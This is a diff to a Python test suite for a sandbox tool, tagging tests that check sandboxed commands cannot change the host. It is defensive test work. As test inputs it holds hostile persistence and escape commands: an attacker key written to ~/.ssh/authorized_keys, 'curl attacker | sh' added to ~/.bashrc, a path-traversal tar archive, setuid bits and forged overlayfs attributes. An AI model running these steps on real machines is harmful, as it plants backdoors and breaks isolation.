@@ -10,6 +10,8 @@ sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
 from harness import IS_ROOT, require, test  # noqa: E402
 from npm_registry import NpmRegistry  # noqa: E402
 
+FACTS = {"stops": "mounts", "event": "none"}
+
 PYTHON = "/usr/bin/python3"
 
 
@@ -45,26 +47,26 @@ def restore(t, before, changed):
         full.chmod(mode)
 
 
-@test
+@test(rows="A060")
 def authorized_keys(t):
     """~/.ssh/authorized_keys is not changed"""
     host_unchanged(t, "mkdir -p ~/.ssh; echo attacker >> ~/.ssh/authorized_keys")
 
 
-@test
+@test(rows="A062")
 def shell_start_files(t):
     """~/.bashrc, ~/.profile and ~/.zshrc are not changed"""
     host_unchanged(t, "echo 'curl attacker | sh' >> ~/.bashrc; echo x > ~/.profile; echo x > ~/.zshrc")
 
 
-@test
+@test(rows="A063 A064 A065 A066")
 def units_and_autostart(t):
     """no systemd unit, autostart entry or startup hook of an interpreter is left in the home"""
     host_unchanged(t, "for d in .config/systemd/user .config/autostart .local/bin .claude "
                    ".config/git .local/lib/python3.11/site-packages; do mkdir -p ~/$d; echo x > ~/$d/evil; done; echo x > ~/.gitconfig")
 
 
-@test
+@test(rows="A071 A072")
 def shredded_home(t):
     """removing everything below the home removes nothing of the host's"""
     require(str(t.home).startswith(str(t.base)), "a scratch home")
@@ -78,7 +80,7 @@ def shredded_home(t):
     t.equal({p: v for p, v in before.items() if after.get(p) != v}, {})
 
 
-@test
+@test(rows="A069 A070")
 def neighbouring_projects(t):
     """projects beside this one, and directories above it, are not changed"""
     host_unchanged(t, "echo x >> ~/neighbour/.env; mkdir -p ../node_modules/evil; echo x > ../package.json")
@@ -122,7 +124,7 @@ def planting(profile, exists):
 
     body.__doc__ = (f"with profile {profile}, hooks, CI, editor and agent files "
                     f"{'that exist' if exists else 'that do not exist yet'} are not changed")
-    test(body)
+    test(body, rows="A100 A101 A104 A105 A106 A107 A108 A114", stops="commit", event="change.protected")
 
 
 for one in ("npm", "generic"):
@@ -130,7 +132,7 @@ for one in ("npm", "generic"):
     planting(one, True)
 
 
-@test
+@test(rows="A102", stops="commit", event="change.protected change.held")
 def git_replaced(t):
     """.git is not replaced by a file or link that leads elsewhere"""
     t.succeeded(t.bare("git", "init", "-q"))
@@ -142,7 +144,7 @@ def git_replaced(t):
         t.true(result.of_type("change.protected", "change.held"), result.events)
 
 
-@test
+@test(rows="A110", stops="commit", event="change.held change.protected")
 def unexpected_changes(t):
     """with an install profile, changed sources and package.json are held back"""
     t.write("src/index.js", "original\n")
@@ -155,7 +157,7 @@ def unexpected_changes(t):
     t.true({"src/index.js", "new.js"} <= held, f"{held}; {result}")
 
 
-@test
+@test(rows="A060 A061")
 def archive_with_dots(t):
     """an archive with ../ entries and linked directories writes nothing outside the project"""
     t.write("make.py", """
@@ -176,7 +178,7 @@ with tarfile.open('evil.tar', 'w') as archive:
     host_unchanged(t, "tar -xPf evil.tar; rm -f dir; true")
 
 
-@test
+@test(rows="A080", stops="commit", event="change.held")
 def links_for_the_commit(t):
     """symbolic links that are planted where the commit will write are not followed"""
     t.write("packages/a/file", "old\n")
@@ -192,7 +194,7 @@ def links_for_the_commit(t):
     t.contains(result.said, "held: packages (a link that leads out of the project)")
 
 
-@test
+@test(rows="A082", stops="mounts, commit")
 def link_of_the_host_in_the_way(t):
     """a link that stands in the project already is not written through"""
     (t.home / "victim").mkdir()
@@ -205,7 +207,7 @@ def link_of_the_host_in_the_way(t):
     t.equal(os.listdir(t.home / "victim"), [])
 
 
-@test
+@test(rows="A073")
 def hard_links(t):
     """no hard link joins a file of the host with one of the project"""
     t.succeeded(t.bare("ln", t.home / ".bashrc", "linked"), "control")
@@ -229,7 +231,7 @@ for act in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (1, 1)), lambd
 """
 
 
-@test
+@test(rows="A074")
 def attributes_outside(t):
     """mode, times and extended attributes of what is shown outside the project are not changed"""
     bare, inside = (t.write(t.base / name / "file", "x\n") for name in ("bare", "inside"))
@@ -241,7 +243,7 @@ def attributes_outside(t):
             (before.st_mode, before.st_mtime, []))
 
 
-@test
+@test(rows="A079", stops="privilege")
 def file_capabilities(t):
     """a file gets no capabilities, by which whoever runs it would have them"""
     give = ("import os, struct; open('tool', 'w').close(); "
@@ -254,7 +256,7 @@ def file_capabilities(t):
     t.true(not (t.project / "tool").exists() or os.listxattr(t.project / "tool") == [], result)
 
 
-@test
+@test(rows="A078", stops="commit", event="change.stripped")
 def set_user_id_bits(t):
     """set-user-ID and set-group-ID bits are left out of the commit, and logged"""
     script = "cp /bin/true tool; chmod 6755 tool; stat -c %a tool"
@@ -301,7 +303,7 @@ def logged(t, result, path):
     t.true("actor" in found[0] or found[0]["details"]["suspects"], found)
 
 
-@test
+@test(rows="A077 A087", stops="privilege, commit", event="change.stripped")
 def special_files(t):
     """FIFOs, sockets and device nodes do not get into the project, and do not hang the commit"""
     program = """
@@ -327,7 +329,7 @@ open('plain', 'w').close()
     logged(t, result, "sock")
 
 
-@test
+@test(rows="A084", stops="commit")
 def forged_overlay_marks(t):
     """extended attributes and whiteouts that look like overlayfs' own change nothing outside"""
     t.write("keep/file", "keep\n")
@@ -353,7 +355,7 @@ for name, value in (('opaque', b'y'), ('redirect', b'/../../.ssh'), ('origin', b
         t.equal([x for x in os.listxattr(t.project / path) if "overlay" in x], [], path)
 
 
-@test
+@test(rows="A086")
 def own_configuration(t):
     """configuration of sandbox-run, in the home and in the project, cannot be changed"""
     t.write(t.home / ".config/sandbox-run/config.toml", "allow_hosts = []\n")
@@ -364,7 +366,7 @@ def own_configuration(t):
     t.true(not (t.project / ".sandbox-run.toml").exists(), result)
 
 
-@test
+@test(rows="A086")
 def state_directory(t):
     """the state directory (logs, held changes) cannot be seen or changed from inside"""
     t.succeeded(t.sandbox("sh", "-c", "echo x > .envrc"))
@@ -375,7 +377,7 @@ def state_directory(t):
     t.contains(result.err, "No such file")
 
 
-@test
+@test(rows="A083", stops="refusal")
 def fake_helpers_in_the_project(t):
     """programs in node_modules/.bin are not run by sandbox-run itself at the next start"""
     marker = t.base / "helper-ran"
@@ -389,7 +391,7 @@ def fake_helpers_in_the_project(t):
     t.true(not marker.exists(), "a helper ran outside the sandbox")
 
 
-@test
+@test(rows="A087 A089", stops="commit")
 def odd_trees(t):
     """a deep tree, a sparse file, unreadable directories and a million-entry name do not stop the commit"""
     script = """
@@ -404,7 +406,7 @@ def odd_trees(t):
     (t.project / "closed").chmod(0o700)
 
 
-@test
+@test(rows="A198", stops="log", event="change.protected")
 def escape_sequences(t):
     """names with escape sequences and newlines forge nothing on the terminal or in the log"""
     program = ("import os\nos.makedirs(b'.vscode')\n"
